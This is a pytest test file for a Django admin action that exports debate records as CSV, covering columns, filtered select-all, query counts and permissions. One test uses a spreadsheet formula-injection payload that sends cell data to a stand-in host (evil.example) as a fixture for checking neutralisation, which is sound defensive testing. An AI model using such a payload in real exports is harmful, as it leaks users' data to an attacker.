"""The debates list exports as CSV from the admin: the columns an analyst needs, every filtered
row with "select all", one query for the rows whatever their number, for view permission only."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.contrib.auth.models import Permission
from django.core.cache import cache
from django.urls import reverse

from debates.exports import DEBATE_COLUMNS
from debates.models import Debate
from tests.factories import CompletedDebateFactory, StaffFactory, UserFactory

CHANGELIST = reverse("admin:debates_debate_changelist")


def export(client, *, ids=(), select_across=False, query=""):
    # As the changelist's form posts it: the action, the ticked rows of the page and, with
    # "select all", select_across (the page's rows stay ticked).
    data = {
        "index": "0",
        "action": "export_debates_csv",
        ACTION_CHECKBOX_NAME: [str(i) for i in ids],
    }
    if select_across:
        data["select_across"] = "1"
        data[ACTION_CHECKBOX_NAME] = [
            str(pk) for pk in Debate.objects.values_list("pk", flat=True)[:1]
        ]
    return client.post(CHANGELIST + query, data)


def rows_of(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body, newline="")))


def test_the_selected_debates_download_as_csv_with_their_figures(admin_client, admin_user):
    chosen = CompletedDebateFactory(
        query="Should we ship on Friday?",
        protocol="s4",
        decision="WARN",
        decision_override="REFUSE",
        review_status="resolved",
        consensus_type="split",
        majority_decision="ACT",
        outcome_change="more_cautious",
        tokens_in=1200,
        tokens_out=340,
        cost_usd=Decimal("0.012345"),
        created_by=admin_user,
    )
    CompletedDebateFactory(query="Not selected")

    response = export(admin_client, ids=[chosen.pk])

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="debates-')
    rows = rows_of(response)
    assert [r["question"] for r in rows] == ["Should we ship on Friday?"]
    row = rows[0]
    assert list(row) == [c.header for c in DEBATE_COLUMNS]
    assert row["id"] == str(chosen.pk)
    assert row["decision"] == "WARN"
    assert row["decision_override"] == "REFUSE"
    assert row["effective_decision"] == "REFUSE"
    assert row["majority_decision"] == "ACT"
    assert row["outcome_change"] == "more_cautious"
    assert row["review_status"] == "resolved"
    assert row["created_by"] == admin_user.username
    assert row["tokens_in"] == "1200" and row["cost_usd"] == "0.012345"
    assert row["status"] == "completed"


def test_select_all_exports_every_row_the_filters_keep(admin_client):
    for i in range(3):
        CompletedDebateFactory(query=f"refused {i}", decision="REFUSE")
    CompletedDebateFactory(query="acted", decision="ACT")

    response = export(admin_client, select_across=True, query="?decision__exact=REFUSE")

    questions = sorted(r["question"] for r in rows_of(response))
    assert questions == ["refused 0", "refused 1", "refused 2"]


@pytest.mark.parametrize("cached", [[], ["ACT", "WARN"]])
def test_a_filter_value_stored_since_the_cached_list_still_filters(admin_client, cached):
    """The decision filter's values are cached for minutes: a value stored since (or a list
    read when there were no debates) must still narrow the list and the export, never show
    every row."""
    cache.set("admin:debate:values:decision", cached, 300)
    CompletedDebateFactory(query="refused", decision="REFUSE")
    CompletedDebateFactory(query="acted", decision="ACT")
    url = reverse("admin:debates_debate_changelist")

    listed = admin_client.get(url, {"decision__exact": "REFUSE"}).content.decode()
    assert "refused" in listed and "acted" not in listed

    response = export(admin_client, select_across=True, query="?decision__exact=REFUSE")
    assert [r["question"] for r in rows_of(response)] == ["refused"]


def test_a_question_written_as_a_formula_is_neutralised(admin_client):
    debate = CompletedDebateFactory(query='=HYPERLINK("http://evil.example/?"&A1,"Open")')

    row = rows_of(export(admin_client, ids=[debate.pk]))[0]

    assert row["question"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize("count", [5, 60])
def test_the_export_costs_the_same_queries_whatever_the_number_of_rows(
    admin_client, django_assert_max_num_queries, count
):
    user = UserFactory()
    for i in range(count):
        CompletedDebateFactory(query=f"q{i}", created_by=user)
    # The list's filters read their values from the cache (StoredValuesFilter), filled by a
    # first view of the list; without it the count depended on what ran before this test.
    admin_client.get(CHANGELIST)

    with django_assert_max_num_queries(8):
        response = export(admin_client, select_across=True)
        rows = rows_of(response)

    assert len(rows) == count
    assert {r["created_by"] for r in rows} == {user.username}


def test_the_export_needs_the_view_permission(client, db):
    debate = CompletedDebateFactory()
    outsider = StaffFactory(roles=[])
    client.force_login(outsider)
    assert export(client, ids=[debate.pk]).status_code == 403

    outsider.user_permissions.add(
        Permission.objects.get(codename="view_debate", content_type__app_label="debates")
    )
    outsider = type(outsider).objects.get(pk=outsider.pk)  # fresh permission cache
    client.force_login(outsider)
    response = export(client, ids=[debate.pk])
    assert response.status_code == 200
    assert [r["id"] for r in rows_of(response)] == [str(debate.pk)]


def test_the_action_is_offered_on_the_changelist(admin_client):
    CompletedDebateFactory()
    page = admin_client.get(CHANGELIST).content.decode()
    assert "Export the selected debates as CSV" in page
    assert Debate.objects.count() == 1
